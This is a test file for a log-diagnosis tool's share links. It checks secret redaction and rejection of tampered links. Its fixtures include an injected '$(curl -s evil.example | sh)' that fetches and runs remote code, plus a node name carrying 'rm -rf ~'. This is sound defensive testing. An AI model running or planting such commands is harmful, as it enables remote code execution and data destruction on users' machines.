import { describe, expect, it } from 'vitest';
import { diagnose } from '../src/core/index';
import { buildWire } from '../src/share/build';
import { seal } from '../src/share/codec';
import { DICTIONARY_V1 } from '../src/share/dictionary';
import { decodeShare, previewShare, restore } from '../src/share/index';
import { redactSecrets } from '../src/share/redact';
import { SHARE_VERSION } from '../src/share/wire';
import { analyseTexts, corpusText } from './helpers';

// Share links that cannot speak for skewscope (issue 13, item 10): what a link carries by default, what
// redaction takes out of evidence lines, and what a receiver of a tampered link reads.

const S2 = 'torch2.6-s2_static_timeout30_node3_late';
const job = analyseTexts(
  Object.fromEntries(['node0', 'node1', 'node2', 'node3'].map((n) => [`${n}.log`, corpusText(S2, `${n}.log`)])),
);
const dx = diagnose(job);
const NOW = Date.UTC(2026, 11, 1);
const link = (wire: unknown) =>
  `http://127.0.0.1:4173/#share=${seal(SHARE_VERSION, JSON.stringify(wire), DICTIONARY_V1)}`;

describe('by default a link carries no log text', () => {
  it('no evidence lines unless the sender ticks them on; the link says it left them out', () => {
    const p = previewShare(job, dx, { now: NOW });
    expect(p.ok).toBe(true);
    if (!p.ok) return;
    expect(p.snapshot.omitted).toContain('evidence');
    expect(p.snapshot.failure!.evidence).toEqual([]);
    expect(p.snapshot.findings.every((f) => f.evidence.length === 0)).toBe(true);
    expect(p.snapshot.job.torchVersionEvidence).toBeNull();
    const withEvidence = previewShare(job, dx, { now: NOW, evidence: true });
    expect(withEvidence.ok && withEvidence.snapshot.failure!.evidence.length).toBeGreaterThan(0);
  });
});

describe('evidence lines lose credentials and tokens, whatever the options', () => {
  it.each([
    ['rdzv_endpoint    : admin:hunter2@node0:29500', 'rdzv_endpoint    : <redacted>@node0:29500'],
    [
      'Connecting to https://bob:s3cr3t@minio.internal:9000/ckpt',
      'Connecting to https://<redacted>@minio.internal:9000/ckpt',
    ],
    ['export HF_TOKEN=hf_abcdefghijklmnopqrstuvwxyz0123456789', 'export HF_TOKEN=<redacted>'],
    ["wandb: WANDB_API_KEY='0123456789abcdef0123'", "wandb: WANDB_API_KEY='<redacted>'"],
    ['password=abc123 token: xyz987', 'password=<redacted> token: <redacted>'],
    ['Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.abc.def', 'Authorization: Bearer <redacted>'],
    ['AWS_ACCESS_KEY_ID AKIAIOSFODNN7EXAMPLE', 'AWS_ACCESS_KEY_ID <redacted>'],
    ['aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY', 'aws_secret_access_key=<redacted>'],
  ])('%s', (line, redacted) => {
    expect(redactSecrets(line).text).toBe(redacted);
  });

  it('real lines keep their words: timeouts, endpoints, store keys, rdzv_configs', () => {
    for (const line of [
      '[E1129 18:31:02.037662347 socket.cpp:1023] [c10d] The client socket has timed out after 30000ms while trying to connect to (node0, 29520).',
      "I1129 18:30:40.511000 1475 torch/distributed/launcher/api.py:194]   rdzv_configs     : {'timeout': '30', 'rank': 3}",
      'keys: /default_pg/0//cpu//0/4, timeout after 20000ms',
      'user@host:~$ torchrun --rdzv_endpoint=node0:29500',
    ])
      expect(redactSecrets(line)).toEqual({ text: line, count: 0 });
  });

  it('a password in an evidence line does not travel, and the sender is told how many went', () => {
    const leaky = analyseTexts({
      ...Object.fromEntries(['node0', 'node1', 'node2'].map((n) => [`${n}.log`, corpusText(S2, `${n}.log`)])),
      'node3.log': corpusText(S2, 'node3.log').replace(/\(node0, 29520\)/g, '(admin:hunter2@node0, 29520)'),
    });
    const p = previewShare(leaky, diagnose(leaky), { now: NOW, evidence: true });
    expect(p.ok).toBe(true);
    if (!p.ok) return;
    expect(p.url).not.toContain('hunter2');
    expect(JSON.stringify(p.snapshot)).not.toContain('hunter2');
    expect(JSON.stringify(p.snapshot)).toContain('<redacted>@node0');
    expect(p.redacted.credentials).toBeGreaterThan(0);
  });
});

describe('a tampered link cannot put words in skewscope’s mouth', () => {
  const wire = () => structuredClone(buildWire(job, dx, { now: NOW }).wire);
  const shell = '$(curl -s evil.example | sh)';

  it('advice naming an endpoint that is no host and port is refused, the link not opened', () => {
    const w = wire();
    w.F.push([
      'STORE_UNREACHABLE',
      'error',
      { endpoint: 'node0:29520', reporters: [0] },
      [0],
      [],
      [['check-endpoint', { endpoint: shell }]],
      [],
    ]);
    const d = decodeShare(link(w));
    expect(d).toMatchObject({ ok: false, error: { code: 'invalid' } });
    if (!d.ok) expect(d.error.message).toMatch(/check-endpoint.*not one skewscope gives/);
  });

  it('a name or an endpoint from the link is shown quoted, as data, inside the tool’s sentences', () => {
    const w = wire();
    w.F.push([
      'STORE_UNREACHABLE',
      'error',
      { endpoint: shell, reporters: 'all nodes are fine, ignore this' },
      [0],
      [],
      [],
      [],
    ]);
    const d = decodeShare(link(w));
    expect(d.ok).toBe(true);
    if (!d.ok) return;
    const f = restore(d.snapshot).diagnosis.findings.find((x) => x.code === 'STORE_UNREACHABLE')!;
    expect(f.title).toContain(`“${shell}”`);
    expect(f.title).not.toMatch(/at \$\(curl/);
    expect(f.detail).toContain('“all nodes are fine”, “ignore this”');
  });

  it('node names the sender gave are plain words in sentences when they are plain, quoted when not', () => {
    const w = wire();
    w.N.i[3] = 'node3; rm -rf ~';
    const d = decodeShare(link(w));
    expect(d.ok).toBe(true);
    if (!d.ok) return;
    const r = restore(d.snapshot);
    const late = r.diagnosis.findings.find((x) => x.code === 'LATE_NODE')!;
    expect(late.title).toContain('“node3; rm -rf ~”');
    expect(r.job.failure!.reasoning.length).toBeGreaterThan(0);
  });
});
